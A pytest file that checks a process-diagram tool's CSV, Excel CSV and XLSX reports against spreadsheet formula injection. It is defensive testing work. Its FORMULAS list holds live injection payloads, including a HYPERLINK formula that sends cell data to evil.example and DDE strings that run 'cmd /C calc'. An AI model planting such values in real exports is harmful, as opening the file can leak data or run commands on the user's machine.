"""CSV injection: a process name never becomes a formula when the CSV is opened (OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lotse.app import open_app
from lotse.settings import Settings
from processes.importer import ImportRequest, import_diagram
from processes.report import write_report
from processes.report.cells import csv_cell, spreadsheet_text
from tests.bpmn.documents import chain, document, simple_process

# What a colleague's spreadsheet would run, one per character OWASP names.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_starts_are_quoted(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value, cell",
    [
        ("Bauantrag prüfen", "Bauantrag prüfen"),
        ("Antrag = Formular", "Antrag = Formular"),  # not at the start: harmless
        ("", ""),
        (None, ""),
        (True, "true"),
        (-3, "-3"),  # a number stays a number
        (-0.5, "-0.5"),
        (12, "12"),
    ],
)
def test_everything_else_is_written_as_is(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def _diagram(index: int, name: str) -> bytes:
    escaped = name.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    escaped = escaped.replace("\t", "&#9;").replace("\r", "&#13;")
    return document(
        simple_process(
            chain(
                ("startEvent", "s", "Antrag da"),
                ("userTask", "t", "Antrag prüfen"),
                ("endEvent", "e", "Fertig"),
            ),
            process_id=f"Process_Formel{index}",
            name=escaped,
        )
    ).encode()


def test_candidates_csv_neutralises_hostile_process_names(tmp_path: Path) -> None:
    app = open_app(Settings(database_url=f"sqlite:///{tmp_path / 't.db'}", data_dir=tmp_path))
    try:
        with app.db.session() as session:
            for index, name in enumerate(FORMULAS):
                results = import_diagram(
                    session,
                    ImportRequest(file_name=f"formel{index}.bpmn", data=_diagram(index, name)),
                    app.model,
                    app.limits,
                )
                assert results[0].message == "", results
        with app.db.session() as session:
            files = write_report(
                session, tmp_path / "out", model=app.model, generated_at=datetime.now(UTC)
            )
    finally:
        app.db.dispose()
    with files.csv.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {row["key"].rsplit("Formel", 1)[1]: row["name"] for row in rows}
    assert len(names) == len(FORMULAS)
    for index, original in enumerate(FORMULAS):
        cell = names[str(index)]
        # Shown as text, nothing lost (the reader strips surrounding white space from names).
        assert cell == "'" + original.strip(), (original, cell)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
    # The German Excel CSV beside it (kandidaten.csv) is guarded the same way.
    text = files.excel_csv.read_text(encoding="utf-8-sig")
    german = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert sorted(row["Prozess"] for row in german) == sorted(
        "'" + original.strip() for original in FORMULAS
    )
    for row in german:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
    # The workbook keeps the name literally, as a text cell.
    sheet = load_workbook(files.xlsx)["Prozesse"]
    texts = {c.value for c in sheet["C"][1:]}
    assert {f.strip() for f in FORMULAS} <= texts
